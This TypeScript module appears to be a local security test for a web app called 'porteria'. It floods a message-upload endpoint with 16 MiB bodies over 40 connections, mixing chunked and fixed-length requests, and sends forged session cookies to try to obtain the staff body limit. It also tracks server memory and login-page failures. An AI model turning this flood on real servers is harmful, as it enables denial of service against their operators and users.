import { connect } from 'node:net'
import { setTimeout as delay } from 'node:timers/promises'
import type { AttackSetup } from './setup'

/** MiB that the server read, its resident memory in MiB, and the pages requested meanwhile. */
export type Flood = {
  sentMiB: number
  beforeMiB: number
  peakMiB: number
  pages: number
  failedPages: number
}

const kib = 1024
const connections = 40
/** A flood lasts until `pagesMin` pages were requested, at most `max` rounds. */
const rounds = { min: 3, max: 60 }
const pagesMin = 5
const bodyBytes = 16 * kib * kib
const chunk = Buffer.alloc(64 * kib, 'x')

/** Forged session cookies, sent to get the larger body limit of signed-in staff. */
const forged = [
  'porteria-session=x',
  'porteria-session-x=x',
  'porteria-session.0=x; porteria-session.1=y',
  `porteria-session=eyJhbGciOiJkaXIiLCJlbmMiOiJBMjU2R0NNIn0..${'a'.repeat(16)}.${'b'.repeat(300)}.${'c'.repeat(22)}`,
]

/** Sends 16 MiB bodies over 40 connections repeatedly, with forged cookies or those of a session. */
export async function floodBodies(setup: AttackSetup, cookies: string[] = forged): Promise<Flood> {
  const { rssMiB: beforeMiB } = await setup.memory()
  const flood = { sentMiB: 0, beforeMiB, peakMiB: beforeMiB, pages: 0, failedPages: 0 }
  let isOver = false
  const watch = async () => {
    while (!isOver) {
      const { rssMiB } = await setup.memory()
      flood.peakMiB = Math.max(flood.peakMiB, rssMiB)
      const page = await setup.client.send({ method: 'GET', path: '/login' }).catch(() => null)
      flood.pages += 1
      if (page?.status !== 200) flood.failedPages += 1
      await delay(20)
    }
  }
  const attacker = async (index: number) => {
    for (let round = 0; round < rounds.min || (flood.pages < pagesMin && round < rounds.max); round++)
      flood.sentMiB += (await sendBody(setup.origin, index + round, cookies)) / kib / kib
  }
  const watching = watch()
  await Promise.all(Array.from({ length: connections }, (_, index) => attacker(index)))
  isOver = true
  await watching
  return { ...flood, sentMiB: Math.round(flood.sentMiB) }
}

/** Resolves with the bytes written when the connection closes. Every second body is chunked, without a length. */
function sendBody(origin: string, index: number, cookies: string[]): Promise<number> {
  const { host, port } = new URL(origin)
  const isChunked = index % 2 === 1
  const head = [
    'POST /messages/new HTTP/1.1',
    `Host: ${host}`,
    `Origin: ${origin}`,
    `Cookie: ${cookies[index % cookies.length]}`,
    'Content-Type: multipart/form-data; boundary=B',
    isChunked ? 'Transfer-Encoding: chunked' : `Content-Length: ${bodyBytes}`,
  ]
  const start = '--B\r\nContent-Disposition: form-data; name="file"; filename="f.pdf"\r\n\r\n'
  const frame = (bytes: Buffer) =>
    isChunked
      ? Buffer.concat([Buffer.from(`${bytes.length.toString(16)}\r\n`), bytes, Buffer.from('\r\n')])
      : bytes
  return new Promise((resolve) => {
    const socket = connect(Number(port), '127.0.0.1')
    let sent = 0
    const write = () => {
      while (!socket.destroyed && sent < bodyBytes) {
        sent += chunk.length
        if (!socket.write(frame(chunk))) return
      }
    }
    socket.on('drain', write)
    socket.on('error', () => undefined)
    socket.on('close', () => resolve(socket.bytesWritten))
    socket.resume()
    socket.write(`${head.join('\r\n')}\r\n\r\n`)
    socket.write(frame(Buffer.from(start)))
    write()
    socket.setTimeout(30_000, () => socket.destroy())
  })
}
